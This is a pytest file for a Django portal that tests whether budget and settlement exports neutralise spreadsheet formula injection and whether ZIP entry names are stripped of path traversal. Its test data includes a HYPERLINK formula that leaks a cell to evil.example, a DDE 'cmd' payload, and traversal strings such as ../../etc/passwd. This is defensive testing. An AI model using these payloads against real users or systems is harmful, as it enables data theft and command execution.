"""Probe (issue 12): exports (budget xlsx and csv, settlement csv) neutralise formulas — a cell
whose text begins with = + - @, a tab or a carriage return is written as text (behind a single quote
in CSV, as a string cell in xlsx) — and the names inside the letters' ZIP archive are plain file
names. Every export goes through portal.exports."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from applications.models import Application, Enterprise
from tests.cast import cast_build

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def cast():
    return cast_build(letters=False)


def _client(user) -> Client:
    c = Client()
    c.force_login(user, backend="portal.backends.EmailOrUsernameBackend")
    return c


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_helper_makes_every_trigger_inert(payload):
    from portal.exports import cell_text, csv_writer

    assert cell_text(payload) == "'" + payload
    buf = io.StringIO()
    csv_writer(buf).writerow([payload, "广州甲智能科技有限公司", 5])
    first = next(csv.reader(io.StringIO(buf.getvalue())))
    assert first == ["'" + payload, "广州甲智能科技有限公司", "5"]


def test_numbers_and_plain_text_are_left_alone():
    from decimal import Decimal

    from portal.exports import cell_text

    assert cell_text(Decimal("-5.00")) == Decimal("-5.00")
    assert cell_text("大模型推理算力采购") == "大模型推理算力采购"
    assert cell_text("a=b") == "a=b"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_pool_export_writes_an_applicants_formula_as_text(cast, fmt):
    payload = PAYLOADS[0]
    Application.objects.filter(pk=cast.a_approved.pk).update(title=payload)
    Enterprise.objects.filter(pk=cast.enterprise_a.pk).update(name="@SUM(1,2)")
    url = reverse("vouchers:budget_pool_export", args=[cast.pool.pk, fmt])
    r = _client(cast.user("admin")).get(url)
    assert r.status_code == 200
    if fmt == "csv":
        rows = _csv_rows(r)
        row = next(row for row in rows if row[0] == cast.a_approved.reference)
        assert row[1] == "'" + payload and row[2] == "'@SUM(1,2)"
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    else:
        ws = load_workbook(io.BytesIO(r.content)).active
        cells = [c for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        title = next(c for c in cells if c.value == payload)
        assert title.data_type == "s"
        amount = next(c for c in cells if c.column == 7 and c.row == title.row)
        assert amount.data_type == "n"  # amounts stay numbers


def test_the_settlement_export_writes_an_enterprise_formula_as_text(cast):
    from vouchers.services.redemption import redemption_confirm

    redemption_confirm(actor=cast.user("owner_a"), redemption=cast.redemption)
    Enterprise.objects.filter(pk=cast.enterprise_a.pk).update(name="=1+1")
    today = timezone.localdate()
    quarter = (today.month - 1) // 3 + 1
    r = _client(cast.user("admin")).get(
        reverse("vouchers:settlement"), {"year": today.year, "quarter": quarter, "format": "detail"}
    )
    assert r.status_code == 200
    rows = _csv_rows(r)
    assert [row[3] for row in rows[1:]] == ["'=1+1"]
    assert rows[1][6] == "1000.00"


@pytest.mark.parametrize(
    "name,expected",
    [
        ("../../etc/passwd", "etc_passwd"),
        ("..\\..\\windows\\win.ini", "windows_win.ini"),
        ("C:\\temp\\a.pdf", "C_temp_a.pdf"),
        ("..", "file"),
        (".hidden", "hidden"),
        ("a\x00b\nc.pdf", "abc.pdf"),
        ("", "file"),
        ("穗黄科工〔2026〕1号-广州甲智能科技有限公司.pdf", "穗黄科工〔2026〕1号-广州甲智能科技有限公司.pdf"),
    ],
)
def test_archive_names_are_plain_file_names(name, expected):
    from portal.exports import archive_name

    assert archive_name(name) == expected


def test_the_letters_zip_holds_no_path_in_its_names(cast):
    from reviews.models import Letter

    Letter.objects.filter(pk=cast.letter.pk).update(addressee_name="../../../tmp/evil/广州甲")
    r = _client(cast.user("admin")).post(
        reverse("reviews:letters_batch"), {"action": "zip", "letters": [cast.letter.pk]}
    )
    assert r.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(r.streaming_content)))
    names = archive.namelist()
    assert len(names) == 1
    assert "/" not in names[0] and "\\" not in names[0] and ".." not in names[0], names
    assert names[0].endswith("广州甲.pdf")
